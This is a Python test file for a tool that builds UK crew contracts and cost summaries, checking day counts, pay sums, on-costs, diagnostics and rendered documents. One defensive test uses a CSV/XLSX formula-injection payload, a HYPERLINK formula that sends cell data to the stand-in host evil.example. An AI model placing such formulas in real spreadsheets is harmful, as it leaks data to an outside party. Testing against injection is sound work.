"""Crew contracts: days counted, sums to the penny, checks located, both formats rendered."""

from __future__ import annotations

import dataclasses
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from paperwork.builders.base import BuildJob, BuildOptions, BuiltDocument, SumOf
from paperwork.builders.crew_contract import ContractContext
from paperwork.builders.crew_contract import build as build_contracts
from paperwork.costing.checks import check_calls, check_travel
from paperwork.costing.sums import cost, working_days
from paperwork.errors import Diagnostics
from paperwork.model.crew import (
    ContractTerms,
    CrewMember,
    Deal,
    HolidayTreatment,
    KitBasis,
    RateBasis,
    RateRule,
    TaxStatus,
    WorkingDay,
    WorkPattern,
)
from paperwork.model.kit import Travel
from paperwork.model.production import Production
from paperwork.model.records import Company, Money, Person
from paperwork.model.source import Pos
from paperwork.readers.production import read_production
from paperwork.readers.terms import default_terms, match_agreement

REPO = Path(__file__).resolve().parents[2]
TERMS = default_terms()
PACT = match_agreement("pact bectu tv drama 2023")
NO_AGREEMENT = match_agreement("none")
MON_1_MARCH = date(2027, 3, 1)
FRI_12_MARCH = date(2027, 3, 12)
SAT_13_MARCH = date(2027, 3, 13)

BASE_DEAL = Deal(
    start=MON_1_MARCH,
    end=FRI_12_MARCH,
    rate=Money(35000),
    basis=RateBasis.DAILY,
    days_per_week=Decimal(5),
    standard_day=WorkingDay(Decimal(10), Decimal(1)),
    overtime=RateRule(multiplier=Decimal("1.5")),
    sixth_day=RateRule(multiplier=Decimal("1.5")),
    seventh_day=RateRule(multiplier=Decimal(2)),
    holiday=HolidayTreatment.ACCRUED,
    work_pattern=WorkPattern.REGULAR,
    tax_status=TaxStatus.PAYE,
    agreement=NO_AGREEMENT,  # type: ignore[arg-type]
)


def _cost(terms: ContractTerms = TERMS, **changes: object):  # type: ignore[no-untyped-def]
    deal = dataclasses.replace(BASE_DEAL, **changes)  # type: ignore[arg-type]
    return cost(CrewMember("Jo Bloggs", "Gaffer", pos=Pos("crew.csv", 2), deal=deal), terms)


# --- Working days ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("start", "end", "per_week", "count", "sixth", "seventh"),
    [
        (MON_1_MARCH, SAT_13_MARCH, "5", 10, (), ()),
        (MON_1_MARCH, SAT_13_MARCH, "6", 12, (date(2027, 3, 6), SAT_13_MARCH), ()),
        (MON_1_MARCH, SAT_13_MARCH, "7", 13, (date(2027, 3, 6), SAT_13_MARCH), (date(2027, 3, 7),)),
        (MON_1_MARCH, date(2027, 3, 14), "5.5", 11, (SAT_13_MARCH,), ()),  # Mon-Fri, Mon-Sat
        (date(2027, 3, 3), SAT_13_MARCH, "5.5", 9, (SAT_13_MARCH,), ()),  # Wed start: 3 + 6
        (date(2027, 3, 4), date(2027, 3, 7), "3", 0, (), ()),  # Thu-Sun of a Mon-Wed week
        (date(2027, 3, 22), date(2027, 4, 2), "5", 8, (), ()),  # Good Friday, Easter Monday
        (date(2027, 5, 3), date(2027, 5, 8), "6", 5, (), ()),  # bank holiday Monday: no 6th day
    ],
)
def test_working_days_by_pattern(
    start: date,
    end: date,
    per_week: str,
    count: int,
    sixth: tuple[date, ...],
    seventh: tuple[date, ...],
) -> None:
    """Days in the week pattern between the dates, less England & Wales bank holidays."""
    wd = working_days(start, end, Decimal(per_week), TERMS.bank_holidays)
    assert (wd.count, wd.sixth, wd.seventh) == (count, sixth, seventh)


def test_christmas_bank_holidays_are_named_and_excluded_unless_worked() -> None:
    """21 Dec 2026 to 8 Jan 2027, Mon-Fri: 15 weekdays, 3 bank holidays."""
    start, end = date(2026, 12, 21), date(2027, 1, 8)
    wd = working_days(start, end, Decimal(5), TERMS.bank_holidays)
    assert wd.count == 12
    assert [d for d, _ in wd.bank_holidays] == [
        date(2026, 12, 25),
        date(2026, 12, 28),
        date(2027, 1, 1),
    ]
    worked = working_days(start, end, Decimal(5), TERMS.bank_holidays, bank_holidays_worked=True)
    assert worked.count == 15


# --- Sums, hand-worked ----------------------------------------------------------------------


def test_daily_rate_with_accrued_holiday_for_a_regular_worker() -> None:
    """10 days × £350 = £3,500; 28 days ÷ 260 (52 × 5) × £3,500 = £376.923 -> £376.92."""
    c = _cost()
    assert c.fees == 350000 and c.day_pay == 35000 and c.hourly_base == 3500
    assert c.leave_days == Decimal("1.08")  # 10 days worked × 28/260
    assert c.holiday_pay == 37692
    assert c.holiday is not None and c.holiday.working == (
        "28 days a year ÷ 260 (52 × 5) × £3,500.00 (10 days worked: 1.08 days' leave)"
    )
    assert c.overtime_hourly == 5250  # 1.5 × £35.00, no agreement caps
    assert c.total == 387692


def test_sixth_days_and_rolled_up_holiday_round_half_up() -> None:
    """10 × £350 + 2 × £525 = £4,550; 12.07 % of it is £549.185, which rounds UP to £549.19."""
    c = _cost(
        end=SAT_13_MARCH,
        days_per_week=Decimal(6),
        holiday=HolidayTreatment.ROLLED_UP,
        work_pattern=WorkPattern.IRREGULAR,
    )
    assert [(ln.label, ln.pence) for ln in c.fee_lines] == [("Fees", 350000), ("6th days", 105000)]
    assert c.fees == 455000
    assert c.holiday is not None and c.holiday.pence == 54919  # banker's rounding gives 54918
    assert c.holiday.working == "12.07% × £4,550.00"
    assert c.leave_days == Decimal("1.45")  # 12 × 12.07 %


def test_seventh_day_at_double_time() -> None:
    """Mon-Sun at £200: 5 × £200 + £300 (6th, 1.5×) + £400 (7th, 2×) = £1,700."""
    c = _cost(
        rate=Money(20000),
        end=date(2027, 3, 7),
        days_per_week=Decimal(7),
        holiday=HolidayTreatment.NONE,
        tax_status=TaxStatus.SELF_EMPLOYED,
    )
    assert (c.sixth_day_pay, c.seventh_day_pay, c.fees) == (30000, 40000, 170000)


def test_weekly_rate_pro_rata_over_bank_holidays_with_kit_and_vat() -> None:
    """£1,750 × 12 days ÷ 5 = £4,200; kit £100 × 12 ÷ 5 = £240; VAT 20 % of £4,440 = £888."""
    c = _cost(
        start=date(2026, 12, 21),
        end=date(2027, 1, 8),
        rate=Money(175000),
        basis=RateBasis.WEEKLY,
        holiday=HolidayTreatment.NONE,
        tax_status=TaxStatus.SELF_EMPLOYED,
        vat_number="GB 512 3498 02",
        kit_rate=Money(10000),
        kit_basis=KitBasis.WEEK,
        kit_items="Lamps",
    )
    assert (c.fees, c.kit_total, c.holiday_pay, c.vat) == (420000, 24000, 0, 88800)
    assert c.total == 444000
    assert c.hourly_base == 3500  # £1,750 ÷ (5 × 10)


def test_eleven_day_fortnight_weekly_rate() -> None:
    """5.5 days a week, 15 Feb to 13 Mar 2027: 22 days; £1,900 × 22 ÷ 5.5 = £7,600."""
    c = _cost(
        start=date(2027, 2, 15),
        end=SAT_13_MARCH,
        rate=Money(190000),
        basis=RateBasis.WEEKLY,
        days_per_week=Decimal("5.5"),
        kit_rate=Money(7500),
        kit_basis=KitBasis.WEEK,
    )
    assert (c.days.count, c.fees, c.kit_total) == (22, 760000, 30000)
    assert c.fee_lines[0].working == "£1,900.00 a week × 22 days ÷ 5.5 days a week"


def test_hourly_rate_over_a_semi_continuous_day() -> None:
    """£18.50 × 9.5 h = £175.75 a day; × 10 days = £1,757.50; × 28/260 = £189.269 -> £189.27."""
    c = _cost(
        rate=Money(1850),
        basis=RateBasis.HOURLY,
        standard_day=WorkingDay(Decimal("9.5"), Decimal("0.5")),
    )
    assert (c.day_pay, c.fees, c.hourly_base, c.overtime_hourly) == (17575, 175750, 1850, 2775)
    assert c.holiday_pay == 18927


def test_fee_basis_and_rolled_up_pennies() -> None:
    """A fee is the fee; 12.07 % of £1,234.56 is £149.01 and of £2,500.50 is £301.81."""
    rolled = {"holiday": HolidayTreatment.ROLLED_UP, "work_pattern": WorkPattern.PART_YEAR}
    c = _cost(
        start=date(2027, 3, 4),
        end=date(2027, 3, 9),
        rate=Money(123456),
        basis=RateBasis.FEE,
        **rolled,
    )
    assert (c.days.count, c.fees, c.holiday_pay) == (4, 123456, 14901)
    assert c.hourly_base == 3086  # £1,234.56 ÷ 4 days ÷ 10 h = £30.864
    assert _cost(rate=Money(250050), basis=RateBasis.FEE, **rolled).holiday_pay == 30181


def test_accrued_for_irregular_hours_equals_rolled_up_money() -> None:
    """Accrued at 12.07 % for a part-year worker: the same money, paid in lieu at the end."""
    a = _cost(holiday=HolidayTreatment.ACCRUED, work_pattern=WorkPattern.PART_YEAR)
    r = _cost(holiday=HolidayTreatment.ROLLED_UP, work_pattern=WorkPattern.PART_YEAR)
    assert a.holiday_pay == r.holiday_pay == 42245  # 12.07 % × £3,500
    assert a.holiday is not None and a.holiday.label == "Holiday pay (accrued, paid in lieu)"


@pytest.mark.parametrize(
    ("basis", "rate", "fees"),
    [
        (RateBasis.DAILY, Money(35000), 350000),  # 10 × £350
        (RateBasis.WEEKLY, Money(175000), 350000),  # £1,750 × 10 ÷ 5
        (RateBasis.HOURLY, Money(3500), 350000),  # £35 × 10 h × 10 days
        (RateBasis.FEE, Money(350000), 350000),  # the fee
    ],
)
def test_accrued_holiday_is_one_day_count_rule_for_every_basis(
    basis: RateBasis, rate: Money, fees: int
) -> None:
    """Leave = days worked × 28/260 and pay = fees × 28/260, whatever the rate basis."""
    c = _cost(rate=rate, basis=basis)
    assert (c.days.count, c.fees) == (10, fees)
    assert (c.leave_days, c.holiday_pay) == (Decimal("1.08"), 37692)


def test_accrual_caps_at_28_days_a_year_and_ignores_the_leave_year() -> None:
    """6 days a week: 28 ÷ 312 a day worked; the terms' leave year no longer moves the sum."""
    terms = dataclasses.replace(TERMS, leave_year_start=date(2026, 4, 1))
    c = _cost(terms, end=SAT_13_MARCH, days_per_week=Decimal(6))
    # 10 × £350 + 2 sixth days × £525 = £4,550; × 28/312 = £408.333 -> £408.33
    assert (c.days.count, c.fees, c.holiday_pay, c.leave_days) == (
        12,
        455000,
        40833,
        Decimal("1.08"),
    )
    assert c.holiday_pay == _cost(end=SAT_13_MARCH, days_per_week=Decimal(6)).holiday_pay


@pytest.mark.parametrize(
    ("day_rate", "overtime"),
    [(75000, 7000), (15000, 3500), (40000, 6000)],  # capped, raised, within
)
def test_overtime_is_kept_within_the_agreements_caps(day_rate: int, overtime: int) -> None:
    """Pact/Bectu TV Drama: 1.5 × the base hourly rate, at least £35 and at most £70."""
    c = _cost(rate=Money(day_rate), agreement=PACT)
    assert c.overtime_hourly == overtime


def test_per_diems_default_to_working_days() -> None:
    """£45 × 6 named days = £270; with no days named, × the 10 working days = £450."""
    assert _cost(per_diem=Money(4500), per_diem_days=6).per_diem_total == 27000
    assert _cost(per_diem=Money(4500)).per_diem_total == 45000


def test_no_overtime_rule_means_none_is_paid() -> None:
    """overtime: none gives no overtime rate."""
    assert _cost(overtime=RateRule()).overtime_hourly is None


# --- Building from a production folder -------------------------------------------------------

MANIFEST = """\
title: The Test Road
company:
  name: Test Pictures Ltd
  address: [1 High Street, Bristol BS1 1AA]
  company_number: "01234567"
people:
  - {role: Producer, name: Maya Okafor}
terms:
  agreement: Pact/Bectu TV Drama Agreement 2023
  cancellation: One week's notice either way.
tables:
  crew: crew.csv
"""
HEADER = (
    "name,role,department,email,start,end,days_per_week,rate,rate_basis,holiday,work_pattern,"
    "kit_rate,kit_per,kit_items,per_diem,per_diem_days,tax_status,company,company_number,"
    "vat_number,status_check\n"
)
ROWS = (
    "Seán O'Neill,Director of Photography,Camera,sean@example.com,2027-03-01,2027-03-13,6,750,"
    "daily,,,150,week,Light meter & monitor,45,3,loan-out,O'Neill & Sons Ltd,11223344,"
    "GB 246 8135 79,SDS: outside IR35\n"
    "Kit Ashworth,Floor Runner,ADs,kit@example.com,2027-03-01,2027-03-13,6,150,daily,"
    "rolled-up,irregular hours,,,,,,PAYE,,,,\n"
    "Jo Bloggs,Gaffer,Lighting,jo@example.com,2027-03-01,2027-03-12,5,330,daily,,,,,,,,"
    "PAYE,,,,\n"
)
TODAY = date(2027, 2, 1)


def _production(tmp_path: Path, rows: str = ROWS, manifest: str = MANIFEST) -> Production:
    (tmp_path / "production.yaml").write_text(manifest, encoding="utf-8")
    (tmp_path / "crew.csv").write_text(HEADER + rows, encoding="utf-8")
    d = Diagnostics()
    p = read_production(tmp_path, d)
    assert p is not None and not d.has_errors, [str(i) for i in d]
    return p


def _build(
    p: Production, today: date = TODAY, options: BuildOptions | None = None
) -> tuple[tuple[BuiltDocument, ...], Diagnostics]:
    d = Diagnostics()
    docs = build_contracts(BuildJob(p, today, d, options or BuildOptions()))
    return docs, d


def test_one_contract_per_person_and_a_summary(tmp_path: Path) -> None:
    """Three contracts, stems contract_{slug}_{today}, then the XLSX summary."""
    docs, d = _build(_production(tmp_path))
    assert not d.items
    assert [doc.stem for doc in docs] == [
        "contract_sean-o-neill_2027-02-01",
        "contract_kit-ashworth_2027-02-01",
        "contract_jo-bloggs_2027-02-01",
        "crew-summary_the-test-road_2027-02-01",
    ]
    assert all(doc.kind == "crew-contracts" for doc in docs)
    assert docs[0].title == "Seán O'Neill: Director of Photography"
    assert docs[-1].formats == ("pdf", "docx", "xlsx", "csv")
    assert docs[-1].template == "crew_summary" and [s.name for s in docs[-1].sheets] == [
        "Crew costs",
        "Working",
        "Method",
    ]
    ctx = docs[0].context
    assert isinstance(ctx, ContractContext)
    assert ctx.engaged_party == (
        "O'Neill & Sons Ltd (company no. 11223344), for the services of Seán O'Neill"
    )
    assert ctx.estimated_total == "£10,185.00"  # 10 × £750 + 2 × £1,125 + £300 kit + £135
    assert ctx.vat_line == "VAT at 20% on fees and kit: £2,010.00 (added to invoices)"
    assert ctx.overtime_line.startswith("Overtime is paid at £70.00 an hour")
    assert ctx.signatory_name == "Maya Okafor"
    assert ctx.crew_signs_for == "For and on behalf of O'Neill & Sons Ltd"


def test_summary_rows_are_typed_and_totals_are_sums_of_their_columns(tmp_path: Path) -> None:
    """Dates are dates, money is Money, and every total is a SumOf with the builder's figure."""
    docs, _ = _build(_production(tmp_path))
    sheet = docs[-1].sheets[0]
    *people, total = sheet.rows
    col = {h.split(" (")[0]: i for i, h in enumerate(sheet.header)}
    assert sheet.header[col["Fees"]] == "Fees (GBP)"
    kit = people[1]
    assert (kit[col["Start"]], kit[col["End"]]) == (MON_1_MARCH, SAT_13_MARCH)
    assert kit[col["Fees"]] == Money(195000) and kit[col["Holiday pay"]] == Money(23537)
    assert kit[col["NI/pension"]] == "applies (PAYE)"
    assert people[0][col["NI/pension"]] == "not applicable (loan-out company)"
    # Kit's row total: =SUM(Fees..Employer's pension) of its own row, £2,535.20.
    assert kit[col["Total cost"]] == SumOf(col["Fees"], 1, 1, Money(253520), col["Total cost"] - 1)
    assert total[0] == "Total (3 crew)"
    for name in ("Fees", "Holiday pay", "Kit", "Per diems", "Employer's NI", "Total cost"):
        cell = total[col[name]]
        assert isinstance(cell, SumOf) and (cell.column, cell.first, cell.last) == (col[name], 0, 2)
        minor = [
            v.value.minor if isinstance(v, SumOf) else v.minor  # type: ignore[union-attr]
            for v in (r[col[name]] for r in people)
        ]
        assert cell.value == Money(sum(minor)), name
    # £10,185.00 (loan-out, no on-costs) + £2,535.20 (Kit) + £4,225.71 (Jo)
    assert total[col["Total cost"]] == SumOf(col["Total cost"], 0, 2, Money(1694591))
    assert total[col["Employer's NI"]] == SumOf(col["Employer's NI"], 0, 2, Money(81852))


def test_people_are_chosen_by_name_or_slug_and_get_no_summary(tmp_path: Path) -> None:
    """--only "jo  bloggs" or kit-ashworth: their contracts only; an unknown name is an error."""
    p = _production(tmp_path)
    docs, d = _build(p, options=BuildOptions(people=("jo  bloggs", "kit-ashworth")))
    assert [doc.stem for doc in docs] == [
        "contract_kit-ashworth_2027-02-01",
        "contract_jo-bloggs_2027-02-01",
    ]
    docs, d = _build(p, options=BuildOptions(people=("Jo Blogs",)))
    assert docs == ()
    (err,) = d.items
    assert err.code == "unknown-person" and "Jo Bloggs" in err.message


def test_builder_checks_are_located(tmp_path: Path) -> None:
    """Late contract, weekend-only dates and pay below the living wage, each at its cell."""
    rows = (
        "A Late,Spark,,,2027-01-25,2027-02-05,5,250,daily,,,,,,,,PAYE,,,,\n"
        "B Weekend,Spark,,,2027-03-06,2027-03-07,5,250,daily,,,,,,,,PAYE,,,,\n"
        "C Low,Runner,,,2027-03-01,2027-03-05,5,100,daily,,,,,,,,PAYE,,,,\n"
    )
    docs, d = _build(_production(tmp_path, rows))
    assert sorted((i.code, i.severity, str(i.pos)) for i in d) == [
        ("below-minimum-wage", "warning", "crew.csv:4:rate"),
        ("contract-after-start", "warning", "crew.csv:2:start"),
        ("no-working-days", "error", "crew.csv:3:start"),
    ]
    assert [doc.stem for doc in docs] == [
        "contract_a-late_2027-02-01",
        "contract_c-low_2027-02-01",
        "crew-summary_the-test-road_2027-02-01",
    ]


def test_no_terms_section_stops_the_contracts(tmp_path: Path) -> None:
    """Crew without the production's terms: one error at the manifest, nothing built."""
    manifest = MANIFEST.split("terms:")[0] + "tables:\n  crew: crew.csv\n"
    docs, d = _build(_production(tmp_path, manifest=manifest))
    assert docs == () and [(i.code, str(i.pos)) for i in d] == [
        ("terms-missing", "production.yaml")
    ]


def test_called_days_must_fall_inside_the_contract(tmp_path: Path) -> None:
    """Calls before the start or after the end are errors at those cells; rest days warn."""
    p = _production(tmp_path)
    assert p.terms is not None
    d = Diagnostics()
    calls = {
        "jo bloggs": [date(2027, 2, 26), MON_1_MARCH, SAT_13_MARCH, date(2027, 3, 6)],
        "Kit Ashworth": [MON_1_MARCH, SAT_13_MARCH],
        "Nobody": [MON_1_MARCH],
    }
    check_calls(p.crew, calls, p.terms, d, Pos("schedule.csv"))
    assert sorted((i.code, i.severity, str(i.pos)) for i in d) == [
        ("called-not-in-crew", "warning", "schedule.csv"),
        ("called-on-rest-day", "warning", "crew.csv:4:days_per_week"),
        ("called-outside-contract", "error", "crew.csv:4:end"),
        ("called-outside-contract", "error", "crew.csv:4:start"),
    ]
    rest = next(i for i in d if i.code == "called-on-rest-day")
    assert "Sat 06/03/2027" in rest.message


def _travel(out: date, back: date, *names: str) -> Travel:
    return Travel(
        pos=Pos("production.yaml", 30),
        holder=Company("Test Pictures Ltd"),
        home="GB",
        home_name="United Kingdom",
        home_territory="",
        intended_use="Professional equipment",
        representatives=tuple(Person(n, "Crew") for n in names),
        departure=out,
        return_date=back,
    )


def test_travel_days_outside_the_contract_or_per_diems_are_reported(tmp_path: Path) -> None:
    """Out Sun 28 Feb, back Sat 13 Mar: each traveller's uncovered travel day, at its cell.

    Seán travels (per diem days given) and Kit and Jo are named representatives: all start on
    1 Mar, so the day out is outside; Jo ends on the 12th, so the day back is too. Seán's 3
    per diem days are fewer than the 14 away; Kit and Jo have no per diem.
    """
    p = _production(tmp_path)
    assert p.terms is not None
    d = Diagnostics()
    travel = _travel(date(2027, 2, 28), SAT_13_MARCH, "Kit Ashworth", "jo  bloggs")
    check_travel(p.crew, travel, p.terms, d)
    assert sorted((i.code, i.severity, str(i.pos)) for i in d) == [
        ("travel-day-without-per-diem", "warning", "crew.csv:2:per_diem_days"),
        ("travel-day-without-per-diem", "warning", "crew.csv:3:per_diem"),
        ("travel-day-without-per-diem", "warning", "crew.csv:4:per_diem"),
        ("travel-outside-contract", "warning", "crew.csv:2:start"),
        ("travel-outside-contract", "warning", "crew.csv:3:start"),
        ("travel-outside-contract", "warning", "crew.csv:4:end"),
        ("travel-outside-contract", "warning", "crew.csv:4:start"),
    ]
    jo_end = next(i for i in d if str(i.pos) == "crew.csv:4:end")
    assert "Sat 13/03/2027" in jo_end.message


def test_travel_inside_the_contract_with_per_diems_is_quiet(tmp_path: Path) -> None:
    """Out Mon 1, back Sat 6 Mar: inside every contract; 6 days away needs 6 per diem days."""
    p = _production(tmp_path)
    assert p.terms is not None
    sean = p.crew[0]
    assert sean.deal is not None
    six = dataclasses.replace(sean, deal=dataclasses.replace(sean.deal, per_diem_days=6))
    d = Diagnostics()
    check_travel((six,), _travel(MON_1_MARCH, date(2027, 3, 6)), p.terms, d)
    assert d.items == []
    # Per diems on working days only: a 5-day week's Saturday travel day is not covered.
    jo = p.crew[2]
    assert jo.deal is not None
    paid = dataclasses.replace(jo, deal=dataclasses.replace(jo.deal, per_diem=Money(4500)))
    check_travel((paid,), _travel(MON_1_MARCH, date(2027, 3, 6), "Jo Bloggs"), p.terms, d)
    assert [(i.code, str(i.pos)) for i in d] == [
        ("travel-day-without-per-diem", "crew.csv:4:per_diem")
    ]
    assert "Sat 06/03/2027" in d.items[0].message


def test_the_builder_checks_travel_from_the_manifest(tmp_path: Path) -> None:
    """A travel: section with departure and return: the build reports the same warnings."""
    p = dataclasses.replace(
        _production(tmp_path), travel=_travel(date(2027, 2, 28), MON_1_MARCH, "Kit Ashworth")
    )
    _, d = _build(p)
    # Seán's 3 per diem days cover the 2 days away; Kit has none.
    assert sorted((i.code, str(i.pos)) for i in d) == [
        ("travel-day-without-per-diem", "crew.csv:3:per_diem"),
        ("travel-outside-contract", "crew.csv:2:start"),
        ("travel-outside-contract", "crew.csv:3:start"),
    ]


# --- Rendering ------------------------------------------------------------------------------


@pytest.mark.slow  # renders documents: over a second
def test_both_formats_carry_the_facts_and_figures(tmp_path: Path) -> None:
    """DOCX and PDF of the loan-out contract name O'Neill & Sons Ltd and show every sum."""
    from pypdf import PdfReader

    from paperwork.output import OutputFolder
    from paperwork.pipeline import BuildRequest, render_documents
    from paperwork.render.docx import docx_text

    p = _production(tmp_path)
    docs, _ = _build(p)
    out = OutputFolder(tmp_path / "out")
    request = BuildRequest(today=TODAY, formats=("docx", "pdf", "xlsx", "csv"))
    refused = render_documents(p, docs, request, out)
    assert refused == []
    facts = (
        "O'Neill & Sons Ltd",
        "Seán O'Neill",
        "Director of Photography",
        "Monday 1 March 2027",
        "Saturday 13 March 2027",
        "£750.00 a day",
        "£7,500.00",  # 10 ordinary days × £750
        "£2,250.00",  # 2 sixth days × £1,125
        "£300.00",  # kit: £150 a week × 12 days ÷ 6
        "£135.00",  # per diems: 3 × £45
        "£10,185.00",
        "£2,010.00",  # VAT: 20 % of £10,050
        "£75.00 an hour",
        "£70.00 an hour",
        "SDS: outside IR35",
        "Light meter & monitor",
        "Maya Okafor",
    )
    word = docx_text((tmp_path / "out" / "contract_sean-o-neill_2027-02-01.docx").read_bytes())
    pdf = PdfReader(tmp_path / "out" / "contract_sean-o-neill_2027-02-01.pdf")
    pdf_text = " ".join(page.extract_text() for page in pdf.pages).replace("\n", " ")
    for fact in facts:
        assert fact in word, fact
        assert fact in pdf_text, fact
    merged = PdfReader(tmp_path / "out" / "crew-contracts_all_2027-02-01.pdf")
    assert [o.title for o in merged.outline] == [  # type: ignore[union-attr]
        "Seán O'Neill: Director of Photography",
        "Kit Ashworth: Floor Runner",
        "Jo Bloggs: Gaffer",
        "Crew cost summary: The Test Road",
    ]
    csv = (
        (tmp_path / "out" / "crew-summary_the-test-road_2027-02-01.csv")
        .read_bytes()
        .decode("utf-8-sig")
    )
    assert csv.splitlines()[-1].startswith("Total (3 crew),")
    assert ",01/03/2027,13/03/2027," in csv and ",2535.20," in csv and ",16945.91," in csv
    from openpyxl import load_workbook

    book = load_workbook(
        io.BytesIO((tmp_path / "out" / "crew-summary_the-test-road_2027-02-01.xlsx").read_bytes())
    )
    assert book.sheetnames == ["Crew costs", "Working", "Method"]
    costs = book["Crew costs"]
    assert costs["F3"].data_type == "d" and costs["F3"].number_format == "DD/MM/YYYY"
    assert costs["F3"].value.date() == MON_1_MARCH
    assert costs["K3"].data_type == "n" and "£" in costs["K3"].number_format
    assert costs["K3"].value == 1950
    assert costs["Q3"].value == "=SUM(K3:P3)"
    assert costs["K5"].value == "=SUM(K2:K4)" and "£" in costs["K5"].number_format
    assert costs["H5"].value == "=SUM(H2:H4)"
    assert book.calculation.fullCalcOnLoad
    summary = PdfReader(tmp_path / "out" / "crew-summary_the-test-road_2027-02-01.pdf")
    text = " ".join(page.extract_text() for page in summary.pages).replace("\n", " ")
    for fact in ("Crew cost summary", "Total (3 crew)", "£16,945.91", "£299.01", "£50.82",
                 "not applicable", "Employment Allowance"):  # fmt: skip
        assert fact in text, fact
    word_summary = docx_text(
        (tmp_path / "out" / "crew-summary_the-test-road_2027-02-01.docx").read_bytes()
    )
    assert "£16,945.91" in word_summary and "£2,535.20" in word_summary


def test_a_formula_in_the_crew_table_stays_text_in_the_summary(tmp_path: Path) -> None:
    """A role '=HYPERLINK(...)' is a text cell in crew-summary.xlsx and quoted in the CSV."""
    from openpyxl import load_workbook

    from paperwork.render.sheets import render_csv, render_xlsx

    role = '=HYPERLINK("http://evil.example/?"&A1,"Gaffer")'
    rows = ROWS.replace(",Gaffer,", ',"' + role.replace('"', '""') + '",')
    docs, _ = _build(_production(tmp_path, rows))
    sheets = docs[-1].sheets
    ws = load_workbook(io.BytesIO(render_xlsx(sheets)))["Crew costs"]
    assert (ws["B4"].value, ws["B4"].data_type) == (role, "s")
    csv = render_csv(sheets[0]).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv and ",=HYPERLINK" not in csv


# --- Employer's NI and pension ---------------------------------------------------------------


def test_employer_ni_and_pension_per_weekly_pay_period() -> None:
    """£3,500 + £376.92 holiday over two 5-day weeks: £1,938.46 a week (2026/27 rates).

    NI: 15 % × (£1,938.46 - £96) × 2 = £552.738 -> £552.74.
    Pension: 3 % × (£967 - £120) × 2 = £50.82 (pay above the upper limit counts to £967).
    """
    c = _cost()
    oc = c.on_costs
    assert oc.applies and oc.status == "applies (PAYE)"
    assert oc.ni is not None and oc.pension is not None
    assert (oc.ni.pence, oc.pension.pence) == (55274, 5082)
    assert c.employer_total == 387692 + 55274 + 5082
    assert oc.ni.working.startswith("2026/27: 15% of pay above £96.00 a week; £3,876.92 over 2")


def test_2024_25_rates_and_a_week_in_each_tax_year() -> None:
    """Mon 31 Mar - Fri 11 Apr 2025: week 1 in 2024/25 (13.8 % above £175), week 2 in 2025/26.

    Each week £1,938.46: 13.8 % × £1,763.46 + 15 % × £1,842.46 = £243.357 + £276.369 = £519.73.
    """
    c = _cost(start=date(2025, 3, 31), end=date(2025, 4, 11))
    assert c.on_costs.ni is not None and c.on_costs.ni.pence == 51973
    assert "2024/25: 13.8% of pay above £175.00" in c.on_costs.ni.working
    assert "2025/26: 15% of pay above £96.00" in c.on_costs.ni.working
    one = _cost(start=date(2025, 3, 3), end=date(2025, 3, 7))  # £1,750 + £188.46, 2024/25
    assert one.on_costs.ni is not None and one.on_costs.ni.pence == 24336  # 13.8 % × £1,763.46
    assert one.on_costs.pension is not None and one.on_costs.pension.pence == 2541  # 3 % × £847


def test_no_pension_in_a_week_below_the_auto_enrolment_trigger() -> None:
    """Mondays only at £150: £166.16 a week with holiday, under the £192 trigger: NI only."""
    c = _cost(rate=Money(15000), days_per_week=Decimal(1))
    # £300 + £300 × 5.6/52 (£32.31) = £332.31; NI 15 % × (£166.155 - £96) × 2 = £21.05
    assert (c.fees, c.holiday_pay) == (30000, 3231)
    assert c.on_costs.ni is not None and c.on_costs.ni.pence == 2105
    assert c.on_costs.pension is not None and c.on_costs.pension.pence == 0
    assert "0 of 2 weeks above the trigger" in c.on_costs.pension.working


@pytest.mark.parametrize(
    ("status", "text"),
    [
        (TaxStatus.SELF_EMPLOYED, "not applicable (self-employed)"),
        (TaxStatus.LOAN_OUT, "not applicable (loan-out company)"),
    ],
)
def test_no_on_costs_for_self_employed_or_loan_out(status: TaxStatus, text: str) -> None:
    """Self-employed and loan-out crew: no NI, no pension, and the summary says why."""
    c = _cost(tax_status=status, holiday=HolidayTreatment.NONE, company="X Ltd")
    assert (c.on_costs.applies, c.on_costs.status, c.on_costs.total) == (False, text, 0)
    assert c.employer_total == c.total


def test_a_tax_year_without_rates_is_reported_at_the_start(tmp_path: Path) -> None:
    """An engagement in 2028/29, beyond the reference data: a warning at its start cell."""
    rows = "Jo Bloggs,Gaffer,Lighting,,2028-05-01,2028-05-05,5,330,daily,,,,,,,,PAYE,,,,\n"
    docs, d = _build(_production(tmp_path, rows))
    assert [(i.code, str(i.pos)) for i in d] == [("no-payroll-rates", "crew.csv:2:start")]
    assert docs[-1].sheets[0].rows[0][4] == "applies (PAYE): rates not known"


def test_summary_templates_use_only_its_context() -> None:
    """crew_summary.{html,docx} name only SummaryContext fields."""
    from docxtpl import DocxTemplate
    from jinja2 import meta

    from paperwork.costing.summary import SummaryContext
    from paperwork.render.templates import TemplateSet
    from paperwork.resources import templates_dir

    fields = {f.name for f in dataclasses.fields(SummaryContext)}
    ts = TemplateSet([templates_dir()])
    docx_vars = DocxTemplate(
        str(templates_dir() / "crew_summary.docx")
    ).get_undeclared_template_variables(ts.env)
    html = (templates_dir() / "crew_summary.html").read_text(encoding="utf-8")
    assert docx_vars and docx_vars <= fields
    assert meta.find_undeclared_variables(ts.env.parse(html)) <= fields


# --- Templates and the documented context ----------------------------------------------------


def _fields() -> set[str]:
    return {f.name for f in dataclasses.fields(ContractContext)}


def test_every_context_field_is_documented_for_company_templates() -> None:
    """The builder's docstring names every field a company's own Word template may use."""
    import paperwork.builders.crew_contract as module

    doc = module.__doc__ or ""
    assert [f for f in sorted(_fields()) if f"``{f}``" not in doc] == []


def test_bundled_templates_use_only_documented_fields() -> None:
    """The DOCX and HTML templates name no variable outside the context."""
    from docxtpl import DocxTemplate
    from jinja2 import meta

    from paperwork.render.templates import TemplateSet
    from paperwork.resources import templates_dir

    ts = TemplateSet([templates_dir()])
    docx_vars = DocxTemplate(
        str(templates_dir() / "crew_contract.docx")
    ).get_undeclared_template_variables(ts.env)
    html_source = (templates_dir() / "crew_contract.html").read_text(encoding="utf-8")
    html_vars = meta.find_undeclared_variables(ts.env.parse(html_source))
    assert docx_vars and docx_vars <= _fields()
    assert html_vars and html_vars <= _fields()


def test_demo_batch_builds_clean(demo: Path) -> None:
    """The Salt Road's 20 freelancers: 20 contracts and a summary, no diagnostics."""
    d = Diagnostics()
    p = read_production(demo, d)
    assert p is not None
